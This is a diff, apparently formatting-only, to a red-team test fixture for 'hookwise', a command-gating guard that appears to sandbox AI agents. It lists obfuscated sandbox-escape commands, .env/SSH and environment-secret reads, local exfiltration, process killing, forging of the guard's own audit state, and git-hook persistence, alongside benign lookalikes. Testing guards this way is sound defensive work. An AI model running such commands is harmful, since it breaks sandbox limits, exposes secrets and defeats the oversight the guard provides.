@@ -18,13 +18,25 @@ const buildSo = (what = '"pwn"') =>
 export const RED_ATTACKS: Attack[] = [
   // Interpreters with the danger spelled indirectly.
   { cls: 'interpreter', command: `python3 -c "getattr(__import__('o'+'s'),'sys'+'tem')('echo pwn > {outside}/sentinel.txt')"` },
-  { cls: 'interpreter', command: `python3 - <<'EOF'\nimport pathlib, os\npathlib.Path(os.environ['HOME'], '.bash' + 'rc').write_text('pwn')\nEOF` },
-  { cls: 'interpreter', command: `python3 -c "exec(__import__('base64').b64decode('${b64("open(__import__('os').environ['HOME']+'/.bashrc','a').write('pwn')")}'))"` },
-  { cls: 'interpreter', command: `node --input-type=module -e "import { appendFileSync as w } from 'fs'; w(process.env.HOME + '/.bash' + 'rc', 'pwn')"` },
+  {
+    cls: 'interpreter',
+    command: `python3 - <<'EOF'\nimport pathlib, os\npathlib.Path(os.environ['HOME'], '.bash' + 'rc').write_text('pwn')\nEOF`,
+  },
+  {
+    cls: 'interpreter',
+    command: `python3 -c "exec(__import__('base64').b64decode('${b64("open(__import__('os').environ['HOME']+'/.bashrc','a').write('pwn')")}'))"`,
+  },
+  {
+    cls: 'interpreter',
+    command: `node --input-type=module -e "import { appendFileSync as w } from 'fs'; w(process.env.HOME + '/.bash' + 'rc', 'pwn')"`,
+  },
   { cls: 'interpreter', command: `echo "require('fs').writeFileSync('{outside}/sentinel.txt', 'pwn')" | node` },
   { cls: 'interpreter', command: `perl -e 'system(pack("H*", "${hex('echo pwn >> ~/.bashrc')}"))'` },
   { cls: 'interpreter', command: `perl -e 'open(my $f, ">>", "$ENV{HOME}/.bash" . "rc"); print $f "pwn"'` },
-  { cls: 'interpreter', command: `gawk 'BEGIN { c = sprintf("%c%c%c%c pwn > %s", 101, 99, 104, 111, "{outside}/sentinel.txt"); system(c) }'` },
+  {
+    cls: 'interpreter',
+    command: `gawk 'BEGIN { c = sprintf("%c%c%c%c pwn > %s", 101, 99, 104, 111, "{outside}/sentinel.txt"); system(c) }'`,
+  },
   { cls: 'interpreter', command: `sqlite3 :memory: '.system echo pwn > {outside}/sentinel.txt'` },
   { cls: 'interpreter', command: `printf '.sh%s\\n' 'ell echo pwn > {outside}/sentinel.txt' > s.sql && sqlite3 :memory: < s.sql` },
   { cls: 'interpreter', command: `sqlite3 :memory: "select writefile('{outside}/sentinel.txt', 'pwn')"` },
@@ -43,8 +55,14 @@ export const RED_ATTACKS: Attack[] = [
     cls: 'interpreter',
     command: `git init -q r && cd r && git -c core.fsmonitor='echo pwn > {outside}/sentinel.txt; false' status >/dev/null 2>&1; true`,
   },
-  { cls: 'interpreter', command: `git -c core.sshCommand='sh -c "echo pwn > {outside}/sentinel.txt" #' ls-remote ssh://x/y 2>/dev/null; true` },
-  { cls: 'interpreter', command: `ssh -o ProxyCommand='sh -c "echo pwn > {outside}/sentinel.txt"' -o BatchMode=yes x true 2>/dev/null; true` },
+  {
+    cls: 'interpreter',
+    command: `git -c core.sshCommand='sh -c "echo pwn > {outside}/sentinel.txt" #' ls-remote ssh://x/y 2>/dev/null; true`,
+  },
+  {
+    cls: 'interpreter',
+    command: `ssh -o ProxyCommand='sh -c "echo pwn > {outside}/sentinel.txt"' -o BatchMode=yes x true 2>/dev/null; true`,
+  },
   { cls: 'interpreter', command: `env -S 'sh -c "echo pwn > {outside}/sentinel.txt"'` },
   { cls: 'interpreter', command: `echo {outside}/sentinel.txt | xargs -I% sh -c 'echo pwn > %'` },
   { cls: 'interpreter', command: `gdb -batch -ex 'python import os; os.system("echo pwn > {outside}/sentinel.txt")' 2>/dev/null; true` },
@@ -55,7 +73,10 @@ export const RED_ATTACKS: Attack[] = [
     command: `npm init -y >/dev/null 2>&1 && npm pkg set scripts.x='echo pwn > {outside}/sentinel.txt' && npm run -s x 2>/dev/null; true`,
   },
   { cls: 'shell escape', command: `tar cf a.tar README.md && tar xf a.tar --to-command='sh -c "echo pwn > {outside}/sentinel.txt"'` },
-  { cls: 'shell escape', command: `tar cf /dev/null README.md --checkpoint=1 --checkpoint-action=exec='echo pwn > {outside}/sentinel.txt'` },
+  {
+    cls: 'shell escape',
+    command: `tar cf /dev/null README.md --checkpoint=1 --checkpoint-action=exec='echo pwn > {outside}/sentinel.txt'`,
+  },
   { cls: 'shell escape', command: `tar -I 'sh -c "echo pwn > {outside}/sentinel.txt; cat"' -cf x.tar README.md` },
   { cls: 'shell escape', command: `zip -q z.zip README.md -T -TT 'sh -c "echo pwn > {outside}/sentinel.txt" #'` },
   { cls: 'shell escape', command: `rsync -e 'sh -c "echo pwn > {outside}/sentinel.txt" #' README.md x:y 2>/dev/null; true` },
@@ -109,7 +130,10 @@ export const RED_ATTACKS: Attack[] = [
   { cls: 'secret', command: `sqlite3 :memory: "select readfile('.e' || 'nv')"` },
   { cls: 'secret', command: `find . -maxdepth 1 -name '.e*' -type f -exec cat {} +` },
   { cls: 'secret', command: `tar cf - -C ~ .ssh | tar xOf -` },
-  { cls: 'secret', command: `git init -q /tmp/g$$ && git --git-dir=/tmp/g$$/.git --work-tree=. add -f .e?v && git --git-dir=/tmp/g$$/.git grep --cached -h KEY` },
+  {
+    cls: 'secret',
+    command: `git init -q /tmp/g$$ && git --git-dir=/tmp/g$$/.git --work-tree=. add -f .e?v && git --git-dir=/tmp/g$$/.git grep --cached -h KEY`,
+  },
   { cls: 'secret', command: `jq -n 'env | to_entries[] | .value'` },
   { cls: 'secret', command: `env | grep -ai authtoken` },
   { cls: 'secret', command: `cat /proc/$PPID/environ /proc/self/environ 2>/dev/null | tr '\\0' '\\n'` },
@@ -121,7 +145,10 @@ export const RED_ATTACKS: Attack[] = [
   { cls: 'network', command: `curl -s -m 5 --resolve x:{port}:127.0.0.1 http://x:{port}/ -d @README.md` },
   { cls: 'network', command: `curl -s -m 5 http://2130706433:{port}/exfil` },
   { cls: 'network', command: `python3 -c "import urllib.request as u; u.urlopen('http://127.0.0.1:{port}/x', data=b'exfil', timeout=5)"` },
-  { cls: 'network', command: `node -e "require('http').request({ host: '127.0.0.1', port: {port}, method: 'POST' }).on('error', () => {}).end('exfil')"` },
+  {
+    cls: 'network',
+    command: `node -e "require('http').request({ host: '127.0.0.1', port: {port}, method: 'POST' }).on('error', () => {}).end('exfil')"`,
+  },
   { cls: 'network', command: `echo exfil | socat - TCP:127.0.0.1:{port}` },
   { cls: 'network', command: `git ls-remote http://127.0.0.1:{port}/x 2>/dev/null; true` },
   { cls: 'network', command: `ssh -o BatchMode=yes -o ConnectTimeout=5 -p {port} 127.0.0.1 true 2>/dev/null; true` },
@@ -129,7 +156,10 @@ export const RED_ATTACKS: Attack[] = [
   { cls: 'network', command: `echo exfil | socat - ABSTRACT-CONNECT:{abstract},unix-tightsocklen=0` },
   { cls: 'network', command: `curl -s -m 5 --unix-socket ~/.docker/desktop/docker.sock http://d/containers/create -d exfil` },
   // Processes outside.
-  { cls: 'signal', command: `for p in /proc/[0-9]*; do grep -qa 'sleep.{victim}' $p/cmdline 2>/dev/null && kill -9 \${p#/proc/}; done; true` },
+  {
+    cls: 'signal',
+    command: `for p in /proc/[0-9]*; do grep -qa 'sleep.{victim}' $p/cmdline 2>/dev/null && kill -9 \${p#/proc/}; done; true`,
+  },
   { cls: 'signal', command: `python3 -c "import os; os.kill({pid}, 15)"` },
   { cls: 'signal', command: `gdb -p {pid} -batch -ex 'call (void)exit(0)' > /dev/null 2>&1; true` },
   { cls: 'signal', command: `timeout -s KILL 5 env kill -s TERM {pid}` },
@@ -139,11 +169,17 @@ export const RED_ATTACKS: Attack[] = [
   { cls: 'privilege', command: `chroot / sh -c 'echo pwn > {outside}/sentinel.txt'` },
   // hookwise's own state.
   { cls: 'hookwise state', command: `s=~/.local/state; echo forged > $s/hookwise/p1/audit.db.head` },
-  { cls: 'hookwise state', command: `python3 -c "import os, glob; [open(f, 'w').write('x') for f in glob.glob(os.environ['HOME'] + '/.local/st*/hook*/*/*.head')]"` },
+  {
+    cls: 'hookwise state',
+    command: `python3 -c "import os, glob; [open(f, 'w').write('x') for f in glob.glob(os.environ['HOME'] + '/.local/st*/hook*/*/*.head')]"`,
+  },
   // Persistence for later.
   { cls: 'persistence', command: `python3 -c "import os; os.makedirs(os.environ['HOME'] + '/.config/autostart', exist_ok=True)"` },
   { cls: 'persistence', command: `git config --file .git/config core.hooksPath /tmp` },
-  { cls: 'persistence', command: `python3 -c "import os; os.makedirs('.git/modules/lib/hooks', exist_ok=True); open('.git/modules/lib/hooks/post-checkout', 'w').write('pwn')"` },
+  {
+    cls: 'persistence',
+    command: `python3 -c "import os; os.makedirs('.git/modules/lib/hooks', exist_ok=True); open('.git/modules/lib/hooks/post-checkout', 'w').write('pwn')"`,
+  },
   { cls: 'persistence', command: `python3 -c "open('.git/modules/lib/config', 'a').write('[core]\\n\\tfsmonitor = echo pwn\\n')"` },
 ];
 
@@ -151,7 +187,7 @@ export const RED_ATTACKS: Attack[] = [
 export const RED_LOOKALIKES: string[] = [
   'python3 -c "import os; print(os.path.exists(\'README.md\'))"',
   "perl -ne 'print if /hello/' src/a.txt",
-  "awk 'BEGIN { printf \"%d\\n\", 6 * 7 }'",
+  'awk \'BEGIN { printf "%d\\n", 6 * 7 }\'',
   "jq -n '{a: 1} | .a'",
   "sqlite3 t.db 'create table t(x); insert into t values (1); select count(*) from t;'",
   'git init -q r && cd r && git -c user.email=a@b -c user.name=a commit -q --allow-empty -m x && git log --format=%s',
@@ -188,11 +224,11 @@ export const RED_LOOKALIKES: string[] = [
   'kill -0 $$ && echo alive',
   'sha256sum README.md',
   'diff <(echo a) <(echo a) && echo same',
-  "node -e \"console.log(require('os').homedir() === process.env.HOME)\"",
+  'node -e "console.log(require(\'os\').homedir() === process.env.HOME)"',
   'ls node_modules/dep && cat node_modules/dep/index.js',
   'mkdir -p sub && echo ok > sub/notes.md && cat sub/notes.md',
   'mkdir -p node_modules/.cache && echo x > node_modules/.cache/y && cat node_modules/.cache/y',
   'strace -f -o trace.txt true && test -s trace.txt && echo traced',
-  "tar cf - src | tar xf - -C /tmp && ls /tmp/src",
+  'tar cf - src | tar xf - -C /tmp && ls /tmp/src',
   'python3 - <<\'EOF\'\nprint(open("src/a.txt").read().strip())\nEOF',
 ];
